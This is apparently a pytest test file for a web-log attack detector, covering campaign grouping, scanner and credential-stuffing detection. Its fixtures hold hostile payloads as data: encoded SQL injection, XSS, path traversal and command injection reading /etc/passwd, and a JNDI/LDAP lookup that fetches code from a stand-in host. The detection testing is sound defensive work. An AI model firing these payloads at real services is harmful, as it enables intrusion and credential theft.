"""Web attack detector: one finding per client campaign, signatures, scanners, stuffing, scope."""

import random

import pandas as pd
import pytest
from typer.testing import CliRunner

from threatml.cli import app
from threatml.detectors.weblog.attacks import WebAttackDetector
from threatml.errors import ReadReport
from threatml.events import EventBatch
from threatml.readers.weblog import AccessLogReader
from threatml.detectors.weblog.signatures import match_families, normalise
from threatml.detectors.weblog.synthetic import access_log

T0 = 1_700_000_000.0


def _line(ip, t, target, status=200, method="GET", ua="Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"):
    import time

    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(t))
    return f'{ip} - - [{stamp}] "{method} {target} HTTP/1.1" {status} 512 "-" "{ua}"'


def _scan(tmp_path, lines, **kw):
    p = tmp_path / "access.log"
    p.write_text("\n".join(lines) + "\n")
    det = WebAttackDetector(model=False, **kw)
    out = []
    for b in AccessLogReader().read(p, ReadReport()):
        out += det.process(b)
    return out + det.flush()


@pytest.mark.parametrize("target,family", [
    ("/item?id=1%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--", "sqli"),
    ("/item?id=5'/**/or/**/'1'='1", "sqli"),
    ("/p?q=%3Csvg%2Fonload%3Dalert(1)%3E", "xss"),
    ("/download?file=..%252f..%252f..%252fetc%252fpasswd", "traversal"),
    ("/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "cmdi"),
    ("/x?u=${jndi:ldap://198.51.100.7/a}", "cmdi"),
])
def test_signatures_see_through_encoding(target, family):
    assert family in match_families([target])[0]


def test_benign_targets_do_not_match():
    benign = ["/", "/search?q=select+a+good+union+rep", "/blog/2023/10/or-and-not.html", "/api/v1/items?limit=50&offset=100",
              "/static/app.3f2a.js", "/docs/cat-and-dog.html?sort=id", "/a/../b.css", "/category/shoes?sort=price&order=asc"]
    assert [f for f in match_families(benign) if f] == []


def test_normalise_decodes_repeatedly():
    assert normalise("/a?x=%252e%252e%252f") == "/a?x=../"
    assert normalise("/A/**/B+C") == "/a b c"


def test_one_finding_per_client_campaign(tmp_path):
    lines = [_line("10.0.0.5", T0 + i, f"/products/{i}") for i in range(50)]
    lines += [_line("203.0.113.66", T0 + 100 + i, f"/item?id={i}%27%20union%20select%20null,password%20from%20users--")
              for i in range(30)]
    lines += [_line("203.0.113.66", T0 + 200 + i, "/page?f=../../../../etc/passwd", 404) for i in range(5)]
    # the same client returns two hours later: a second campaign
    lines += [_line("203.0.113.66", T0 + 8000 + i, "/q?s=<script>alert(1)</script>") for i in range(3)]
    fs = _scan(tmp_path, sorted(lines, key=lambda s: s.split("[")[1]))
    assert [f.entity for f in fs] == ["203.0.113.66", "203.0.113.66"]
    first = min(fs, key=lambda f: f.start)
    assert first.attributes["campaign"] == "sqli,traversal"
    assert "sqli:union-select" in first.attributes["signatures"]
    assert "T1190" in first.attack and first.evidence_count >= 35
    assert any(e.startswith("Example: GET /item?id=") for e in first.explanation)
    assert first.related["source.ip"] == ["203.0.113.66"]


def test_scanner_by_user_agent_and_by_404s(tmp_path):
    lines = [_line("198.51.100.1", T0 + i, f"/admin{i}", 404, ua="Mozilla/5.00 (Nikto/2.1.6)") for i in range(8)]
    lines += [_line("198.51.100.2", T0 + i, f"/backup{i}.zip", 404) for i in range(40)]
    lines += [_line("10.0.0.9", T0 + i, "/missing.png", 404) for i in range(40)]  # one broken link: not a scan
    fs = {f.entity: f for f in _scan(tmp_path, sorted(lines, key=lambda s: s.split("[")[1]))}
    assert set(fs) == {"198.51.100.1", "198.51.100.2"}
    assert "T1595.002" in fs["198.51.100.2"].attack
    assert fs["198.51.100.2"].attributes["distinct_404_paths"] == 40


def test_credential_stuffing_single_and_distributed(tmp_path):
    lines = [_line("192.0.2.50", T0 + i * 2, "/wp-login.php", 200, "POST") for i in range(25)]
    lines += [_line(f"203.0.{i // 200}.{i % 200 + 1}", T0 + 60 + i * 5, "/login", 401, "POST") for i in range(60)]
    lines += [_line("10.0.0.7", T0 + i * 600, "/login", 302, "POST") for i in range(5)]  # a normal user
    fs = _scan(tmp_path, sorted(lines, key=lambda s: s.split("[")[1]))
    single = [f for f in fs if f.entity == "192.0.2.50"]
    dist = [f for f in fs if f.entity_type == "url"]
    assert len(single) == 1 and single[0].attack == ["T1110.004"]
    assert len(dist) == 1 and dist[0].entity == "/login" and len(dist[0].related["source.ip"]) == 60
    assert all(f.entity != "10.0.0.7" for f in fs)


def test_only_access_log_events_are_used():
    fr = pd.DataFrame({"event.id": ["z1"], "event.dataset": ["zeek.http"], "@timestamp": [T0], "source.ip": ["1.2.3.4"],
                       "url.original": ["/x?id=1' union select 1--"], "http.request.method": ["GET"]})
    det = WebAttackDetector(model=False)
    assert det.process(EventBatch.of("http", fr)) + det.flush() == []
    fr["event.dataset"] = "nginx.access"
    assert len(det.process(EventBatch.of("http", fr)) + det.flush()) == 1


def test_generated_mix_finds_every_campaign(tmp_path):
    lines, labels = access_log(random.Random(11), 8_000)
    truth = {ln.split()[0] for ln, lab in zip(lines, labels) if lab and lab != "distributed-stuffing"}
    fs = _scan(tmp_path, lines)
    per_client = {f.entity for f in fs if f.entity_type == "host"}
    assert truth <= per_client
    assert per_client - truth == set()


def test_scan_command_end_to_end(tmp_path):
    lines = [_line("10.0.0.5", T0 + i, f"/products/{i}") for i in range(20)]
    lines += [_line("203.0.113.66", T0 + 30 + i, "/item?id=1%27%20or%201=1--") for i in range(3)]
    (tmp_path / "access.log").write_text("\n".join(lines) + "\n")
    res = CliRunner().invoke(app, ["scan", str(tmp_path / "access.log"), "--no-store", "--no-report"],
                             catch_exceptions=False, env={"COLUMNS": "200"})
    assert res.exit_code == 0, res.output
    assert "203.0.113.66" in res.output
